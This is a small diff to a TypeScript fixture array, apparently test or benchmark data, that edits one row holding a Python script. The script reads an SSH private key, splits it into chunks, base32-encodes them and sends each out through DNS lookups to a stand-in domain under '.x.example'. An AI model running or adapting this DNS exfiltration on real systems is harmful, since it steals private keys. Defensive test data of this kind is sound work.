@@ -64,7 +64,7 @@ export const FURTHER_DEEDS: readonly Row[] = [
     {
       "main.py": lines(
         "import socket, base64",
-        "key = open('/root/.ssh/id_rsa').read()",
+        "key = open('/srv/.ssh/id_rsa').read()",
         "for part in [key[i:i+30] for i in range(0, len(key), 30)]:",
         "    socket.gethostbyname(base64.b32encode(part.encode()).decode().strip('=') + '.x.example')",
       ),
